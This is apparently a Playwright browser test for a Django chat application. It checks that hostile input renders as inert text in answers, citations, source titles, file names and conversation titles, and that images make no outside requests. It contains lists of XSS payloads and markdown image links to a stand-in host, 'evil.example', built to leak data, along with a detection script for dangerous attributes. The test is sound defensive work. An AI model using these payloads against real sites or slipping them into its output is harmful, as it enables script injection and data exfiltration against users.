"""Hostile content in headless Chromium: XSS payloads in model output, citations, source
titles, uploaded file names and conversation titles render as inert text, live (the
page's script) and after a reload (the server's templates); markdown images pointing
anywhere make no request (checked by Playwright's request interception and by the
target server's own log).
"""

from __future__ import annotations

import html
from urllib.parse import urlsplit

import pytest

from chat.models import Message
from ingestion.models import Source
from tests.browser.conftest import log_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Each payload sets window.__pwned (and opens a dialog) if it ever runs.
PAYLOADS = [
    "<script>window.__pwned='script';alert('script')</script>",
    "<img src=x onerror=\"window.__pwned='img';alert('img')\">",
    "<svg onload=\"window.__pwned='svg';alert('svg')\"></svg>",
    '"><iframe src="javascript:window.top.__pwned=\'iframe\'"></iframe>',
    "'><details open ontoggle=\"window.__pwned='details';alert('details')\">x</details>",
    "<a href=\"javascript:window.__pwned='href'\">click me</a>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<object data=\"javascript:window.__pwned='object'\"></object>",
]
MARKDOWN_PAYLOADS = [
    "[click me](javascript:window.__pwned='md-link')",
    "[also me](  JaVaScRiPt:window.__pwned='md-link2')",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![tracking pixel](http://evil.example/pixel.png?leak=secret)",
    "<img src='http://evil.example/raw.png'>",
    "[ref]: javascript:window.__pwned='ref'\n\nA [reference][ref] link.",
]
FACT = "The vault code is 4417."

INJECTED = (
    "img, iframe, svg, object, embed, style:not([data-app]), script:not([src]),"
    " link:not([rel=stylesheet]):not([rel=icon][href^='/static/'])"
)
CHECK_PAGE = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) bad.push(`${el.tagName} ${attr.name}`);
      if (['href', 'src', 'action', 'formaction', 'data'].includes(attr.name)
          && /^\\s*(javascript|data|vbscript):/i.test(attr.value)) bad.push(`${el.tagName} ${attr.name}=${attr.value}`);
    }
  }
  for (const script of document.querySelectorAll('script[src]')) {
    if (!new URL(script.src).pathname.startsWith('/static/')) bad.push(`script ${script.src}`);
  }
  return {bad, injected: document.querySelectorAll(arguments_injected).length, pwned: window.__pwned ?? null};
}"""


def hostile_page(pixel_url: str) -> bytes:
    title = PAYLOADS[1]
    body = "\n".join(f"<p>{payload}</p>" for payload in PAYLOADS)
    return (
        f"<!doctype html><html><head><title>{title}</title></head><body><main>"
        f"<h1>Vault {html.escape(PAYLOADS[1])}</h1><h2>Codes {PAYLOADS[2]}</h2><p>{FACT}</p>{body}"
        f"<p><img src='{pixel_url}'></p></main></body></html>"
    ).encode()


def assert_inert(page, when: str) -> None:
    result = page.evaluate(CHECK_PAGE.replace("arguments_injected", repr(INJECTED)))
    assert result["pwned"] is None, f"a payload ran ({when}): {result['pwned']}"
    assert result["bad"] == [], f"dangerous attributes ({when}): {result['bad']}"
    assert result["injected"] == 0, f"injected elements ({when})"


def test_payloads_everywhere_render_inert_and_images_make_no_request(
    alice, ollama_provider, fake_ollama, web, page, app_server
) -> None:
    web.set_content("/hostile.html", hostile_page(web.url("/pixel.png")), "text/html; charset=utf-8")
    web.set_content("/pixel.png", b"\x89PNG\r\n\x1a\n", "image/png")
    fake_ollama.reply = lambda messages: "\n\n".join([f"{FACT} [1]", *PAYLOADS, *MARKDOWN_PAYLOADS,
                                                       f"![local pixel]({web.url('/pixel.png')})"])  # fmt: skip
    app_origin = "{0.scheme}://{0.netloc}".format(urlsplit(app_server))
    elsewhere: list[str] = []

    def only_the_app(route) -> None:
        if route.request.url.startswith(app_origin):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", only_the_app)
    page.set_content("<p id=probe onclick='x()'>the check itself must see this</p>")
    with pytest.raises(AssertionError, match="dangerous attributes"):
        assert_inert(page, "self-check")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    log_in(page, "alice", "alice-password-123")

    file_name = "<img src=x onerror=alert('file')>notes.txt"
    page.fill("#prompt", f"{PAYLOADS[0]} what is the vault code?")
    page.press("#prompt", "Enter")
    page.wait_for_selector('article.message.assistant[data-status="complete"]')
    page.fill("#attach-url", web.url("/hostile.html"))
    page.click("#attach button[type=submit]")
    page.wait_for_selector("#source-list li[data-status=ready]", timeout=60_000)
    page.set_input_files("#attach-file", files=[{
        "name": file_name, "mimeType": "text/plain", "buffer": f"{PAYLOADS[4]}\n\n{FACT}\n".encode(),
    }])  # fmt: skip
    page.click("#attach button[type=submit]")
    page.wait_for_function("document.querySelectorAll('#source-list li[data-status=ready]').length === 2",
                           timeout=60_000)  # fmt: skip
    assert_inert(page, "sources, live")

    page.fill("#prompt", "And again: what is the vault code?")
    page.press("#prompt", "Enter")
    page.wait_for_function("document.querySelectorAll('article.message.assistant[data-status=complete]').length === 2")
    assert page.locator("article.message.assistant").last.locator(".citations li").count() >= 1
    assert_inert(page, "answer with citations, live")

    page.reload()
    page.wait_for_selector("article.message.assistant .citations li")
    assert_inert(page, "after reload")

    titles = page.locator("#source-list .source-title").all_inner_texts()
    assert f"Vault {PAYLOADS[1]}" in titles, titles  # shown as text, not dropped
    assert file_name in titles, titles
    assert "<script>" in page.locator("#conversation-title").inner_text()
    assert dialogs == []
    assert elsewhere == [], f"the page requested other origins: {elsewhere}"
    assert web.hits["/pixel.png"] == 0, "the image in the page or in the answer was fetched"
    answer = Message.objects.filter(role="assistant").order_by("id").last()
    assert "evil.example/pixel.png" in answer.content and "<img" not in answer.content_html
    assert Source.objects.filter(owner=alice).count() == 2, "nothing in the answer was fetched as a source"
